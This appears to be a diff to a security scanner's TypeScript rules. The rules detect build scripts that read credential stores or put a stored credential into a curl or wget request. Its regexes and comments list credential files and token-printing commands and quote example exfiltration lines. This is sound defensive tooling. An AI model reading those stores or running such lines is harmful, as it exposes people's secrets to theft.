@@ -3,6 +3,7 @@ import { codeText } from '../code/code-text.js';
 import { isSuspiciousEndpoint } from '../code/network-endpoints.js';
 import { LOADED_PROCESS_CALL, SINKS, WHOLE_ENVIRONMENT, jsSinkUnderAnotherName, readsSecretFromEnvironment, secretsGoToTheirOwnHosts } from '../code/sink-rules.js';
 import { findPipeToShell } from '../shell/pipe-to-shell.js';
+import { GIT_CONFIG_CREDENTIAL } from '../shell/git-credentials.js';
 import { secretNamedVariablesSent } from '../shell/secret-named-pick.js';
 import { pushAll } from '../../push-all.js';
 import { secretForItsOwnPlace, secretNamedForOtherPlace } from '../github-actions/secret-rules.js';
@@ -245,11 +246,59 @@ const CSHARP_DECODE = /\bConvert\.FromBase64String\b/;
 /**
  * Files that hold credentials, and the commands that print a stored credential (`gh auth token`,
  * `gcloud auth print-access-token`, `az account get-access-token`, macOS's keychain, `git
- * credential fill`): the s1ngularity payload of the Nx compromise (August 2025) took the GitHub
- * CLI's token so.
+ * credential fill`, git's configuration: GIT_CONFIG_CREDENTIAL): the s1ngularity payload of the Nx
+ * compromise (August 2025) took the GitHub CLI's token so.
  */
-const CREDENTIAL_FILE =
+const CREDENTIAL_FILE_NAMED =
   /\bgh\s+auth\s+token\b|["']gh["']\s{0,3},\s{0,3}\[?\s{0,3}["']auth["']\s{0,3},\s{0,3}["']token["']|\bgcloud\s+auth\s+print-(?:access|identity)-token\b|\baz\s+account\s+get-access-token\b|\bsecurity\s+(?:find-(?:generic|internet)-password|dump-keychain)\b|\bgit\s+credential\s+fill\b|\.ssh\/|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|\.aws\/credentials|\.npmrc\b|\.pypirc\b|\.netrc\b|\.git-credentials\b|\.docker\/config\.json|\.kube\/config|\.gnupg\b|\.cargo\/credentials|\.gem\/credentials|\.config\/gh\/hosts|\/etc\/(?:passwd|shadow)\b|\bwallet\.dat\b|Login Data|\.bash_history\b|\.m2\/settings\.xml|\.gradle\/gradle\.properties|Local State|\bkeychain\b/i;
+const CREDENTIAL_FILE = new RegExp(`${CREDENTIAL_FILE_NAMED.source}|${GIT_CONFIG_CREDENTIAL.source}`, 'i');
+
+/**
+ * The commands that print a service's token, each with the hosts of that service: the token used
+ * with its own service (`curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/…`)
+ * is how developer tools authenticate, not a theft.
+ */
+const TOKEN_COMMAND_SERVICES: readonly (readonly [RegExp, RegExp])[] = [
+  [/\bgh\s+auth\s+token\b/gi, /(?:^|\.)(?:github\.com|githubusercontent\.com|ghcr\.io)$/i],
+  [/\bgcloud\s+auth\s+print-(?:access|identity)-token\b/gi, /(?:^|\.)(?:googleapis\.com|google\.com|gcr\.io|pkg\.dev|run\.app)$/i],
+  [/\baz\s+account\s+get-access-token\b/gi, /(?:^|\.)(?:azure\.com|microsoft\.com|windows\.net|visualstudio\.com|azurecr\.io)$/i],
+];
+/** A literal URL's host. */
+const LINE_URL_HOST = /\bhttps?:\/\/([A-Za-z0-9.-]{1,253})/g;
+
+/**
+ * Whether the credential stores a line names are only service tokens printed by their CLI (`gh auth
+ * token`), and every literal URL of the line (one at least) is of that token's service.
+ */
+function tokenForItsOwnService(code: string): boolean {
+  let rest = code;
+  const services: RegExp[] = [];
+  for (const [command, service] of TOKEN_COMMAND_SERVICES) {
+    const next = rest.replace(command, ' ');
+    if (next !== rest) services.push(service);
+    rest = next;
+  }
+  if (services.length === 0 || CREDENTIAL_FILE.test(rest)) return false;
+  const hosts = [...code.matchAll(LINE_URL_HOST)].map((m) => m[1] ?? '');
+  return hosts.length > 0 && hosts.every((host) => services.some((service) => service.test(host)));
+}
+
+/** A command substitution (`$(…)`, a recipe's `$$(…)`, backquotes) whose command reads a credential store, on a line that makes a request (curl, wget). */
+const SUBSTITUTION = /\$\$?\(([^()\n]{1,200})\)|`([^`\n]{1,200})`/g;
+const REQUEST_COMMAND = /\b(?:curl|wget|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|http|https)\b/i;
+
+/**
+ * Whether a command line puts a stored credential into a request (`curl "https://h/?t=$(gh auth
+ * token)"`, `curl -H "X-T: $(cat ~/.git-credentials)" https://h`): a GET carries its URL and headers
+ * to the host as surely as a POST's body. Not a service's token given to that service.
+ */
+export function credentialSubstitutedIntoRequest(code: string): boolean {
+  if (!REQUEST_COMMAND.test(code) || !code.includes('://')) return false;
+  for (const m of code.matchAll(SUBSTITUTION)) {
+    if (CREDENTIAL_FILE.test(m[1] ?? m[2] ?? '')) return !tokenForItsOwnService(code);
+  }
+  return false;
+}
 
 
 /** The credential files of package registries: npm's, PyPI's, RubyGems', Cargo's. */
@@ -278,7 +327,7 @@ export function writesRegistryCredentialFile(code: string): boolean {
 
 /** Whether a line names a credential store or prints a stored credential (CREDENTIAL_FILE: `~/.npmrc`, `.aws/credentials`, `gh auth token`). */
 export function readsCredentialStore(text: string): boolean {
-  return CREDENTIAL_FILE.test(text);
+  return CREDENTIAL_FILE.test(text) && !tokenForItsOwnService(text);
 }
 
 /** Sending data out. */
@@ -677,7 +726,7 @@ export function readBehaviors(lines: readonly SourceLine[], language: BuildLangu
     const loaded = RUNDLL.exec(code)?.[1];
     if (loaded !== undefined && !loaded.includes('$') && !DLL_EXTENSIONS.test(loaded)) kinds.add('disguised-binary');
     if (loadsNativeCode(code)) kinds.add('native-load');
-    if (CREDENTIAL_FILE.test(code)) kinds.add(writesRegistryCredentialFile(code) ? 'credential-file-write' : 'credential-file');
+    if (readsCredentialStore(code)) kinds.add(writesRegistryCredentialFile(code) ? 'credential-file-write' : 'credential-file');
     // A token sent only to the service its name names (a release upload with GITHUB_TOKEN) is that service's credential in use, not a theft.
     if (readsSecretFromEnvironment(code) && !secretsGoToTheirOwnHosts(code) && !(options.dockerfile === true && DOCKERFILE_DECLARATION.test(code))) kinds.add('credential-env');
     if (matches(WHOLE_ENVIRONMENT, language, code, runs) || (language === 'csharp' && CSHARP_WHOLE_ENVIRONMENT.test(code))) kinds.add('environment');
